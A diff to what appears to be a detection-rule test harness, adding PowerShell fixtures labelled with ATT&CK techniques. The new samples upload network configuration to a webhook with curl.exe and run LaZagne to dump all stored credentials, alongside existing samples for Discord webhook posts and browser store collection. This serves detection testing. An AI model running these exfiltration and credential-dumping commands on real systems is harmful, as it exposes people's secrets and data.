@@ -49,6 +49,15 @@ $hook = 'https://discord.com/api/webhooks/000/xyz'
 $body = @{ content = "Backup of $env:COMPUTERNAME finished" } | ConvertTo-Json
 Invoke-RestMethod -Uri $hook -Method Post -Body $body -ContentType 'application/json'
 EOF
+cat >"$t/hook-curl.ps1" <<'EOF'
+$hookUrl = $args[0]
+Get-NetIPConfiguration | Out-String | Out-File "$env:TEMP\n.txt"
+curl.exe -F "file1=@$env:TEMP\n.txt" $hookUrl
+EOF
+cat >"$t/lazagne.ps1" <<'EOF'
+$dir = "$env:TEMP\t"
+& "$dir\lazagne.exe" all > "$dir\output.txt"
+EOF
 cat >"$t/browser-stores.ps1" <<'EOF'
 $d = "$env:TEMP\b"
 New-Item -ItemType Directory -Force -Path $d | Out-Null
@@ -131,6 +140,8 @@ want = {
     "http-loop.ps1": ("powershell_http_command_loop", "T1059.001"),
     "dropbox.ps1": ("powershell_web_service_file_upload", "T1567.002"),
     "browser-stores.ps1": ("powershell_browser_store_collection", "T1555.003"),
+    "hook-curl.ps1": ("powershell_web_service_file_upload", "T1567.002"),
+    "lazagne.ps1": ("credential_dumping", "T1555"),
     "loot.ps1": ("powershell_removable_drive_loot", "T1052.001"),
     "entrypoint.ps1": ("powershell_assembly_entrypoint_invoke", "T1620"),
     "rc4-run.vbs": ("wsh_rc4_decrypted_code", "T1059.005"),
